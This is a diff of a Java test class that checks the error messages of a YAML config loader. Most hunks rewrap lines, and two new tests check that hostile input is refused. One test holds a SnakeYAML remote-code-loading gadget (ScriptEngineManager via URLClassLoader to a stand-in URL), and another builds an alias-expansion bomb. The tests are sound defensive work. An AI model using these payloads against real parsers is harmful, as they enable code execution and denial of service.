@@ -33,7 +33,8 @@ class ConfigErrorsTest {
     assertThat(error.keyPath()).isEqualTo("files[1].trigger.maxSize");
     assertThat(error.message()).startsWith("\"100 MB\" is not a size; write e.g. 100MiB");
     assertThat(error.toString())
-        .startsWith(file + ":5: files[1].trigger.maxSize: \"100 MB\" is not a size; write e.g. 100MiB");
+        .startsWith(
+            file + ":5: files[1].trigger.maxSize: \"100 MB\" is not a size; write e.g. 100MiB");
   }
 
   @Test
@@ -66,7 +67,8 @@ class ConfigErrorsTest {
         .contains(":1: checkInterval: \"30\" is not a duration: it needs a unit; write e.g. 30s")
         .contains(":2: http.port: \"99999\" is out of range; write a whole number from 0 to 65535")
         .contains(":4: files[0].path: \"var/log/app.log\" is a relative path")
-        .contains(":5: files[0].compress.level: \"25\" is out of range; write a whole number from 1 to 19");
+        .contains(
+            ":5: files[0].compress.level: \"25\" is out of range; write a whole number from 1 to 19");
   }
 
   @Test
@@ -87,7 +89,8 @@ class ConfigErrorsTest {
 
   @Test
   void unknownKeyFarFromAnyKnownKeyListsTheAllowedKeys() {
-    ConfigError error = ConfigFiles.onlyError(dir, "http: { colour: blue }\n" + ConfigFiles.ONE_FILE);
+    ConfigError error =
+        ConfigFiles.onlyError(dir, "http: { colour: blue }\n" + ConfigFiles.ONE_FILE);
 
     assertThat(error.line()).isEqualTo(1);
     assertThat(error.keyPath()).isEqualTo("http.colour");
@@ -290,7 +293,8 @@ class ConfigErrorsTest {
     assertThat(error.line()).isEqualTo(3);
     assertThat(error.keyPath()).isEqualTo("files[1].path");
     assertThat(error.message())
-        .isEqualTo("duplicate path; files[0].path (line 2) already watches it; merge the two entries");
+        .isEqualTo(
+            "duplicate path; files[0].path (line 2) already watches it; merge the two entries");
   }
 
   @Test
@@ -355,7 +359,8 @@ class ConfigErrorsTest {
   @Test
   void compressSettingsThatNoneIgnoresAreRefused() {
     ConfigError error =
-        ConfigFiles.onlyError(dir, ConfigFiles.ONE_FILE + "    compress: { codec: none, level: 3 }\n");
+        ConfigFiles.onlyError(
+            dir, ConfigFiles.ONE_FILE + "    compress: { codec: none, level: 3 }\n");
 
     assertThat(error.keyPath()).isEqualTo("files[0].compress.level");
     assertThat(error.message())
@@ -385,5 +390,36 @@ class ConfigErrorsTest {
     assertThat(errors.get(0).line()).isZero();
     assertThat(errors.get(0).toString())
         .isEqualTo(missing + ": cannot read the file: it does not exist");
+  }
+
+  @Test
+  void globalTypeTagsAreRefused() {
+    ConfigError error =
+        ConfigFiles.onlyError(
+            dir,
+            """
+            node: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
+            """
+                + ConfigFiles.ONE_FILE);
+
+    // SnakeYAML 2's default tag inspector refuses global tags while composing, before any
+    // value is read; nothing is ever constructed from a tag either way.
+    assertThat(error.line()).isEqualTo(1);
+    assertThat(error.keyPath()).isEmpty();
+    assertThat(error.message()).startsWith("not valid YAML: Global tag is not allowed");
+  }
+
+  @Test
+  void aliasExpansionBombIsRefusedAsInvalidYaml() {
+    StringBuilder yaml = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
+    for (int i = 1; i < 60; i++) {
+      yaml.append("a").append(i).append(": &a").append(i);
+      yaml.append(" [*a").append(i - 1).append(", *a").append(i - 1).append("]\n");
+    }
+
+    ConfigError error = ConfigFiles.errors(dir, yaml.toString()).get(0);
+
+    assertThat(error.keyPath()).isEmpty();
+    assertThat(error.message()).startsWith("not valid YAML: ").contains("aliases");
   }
 }
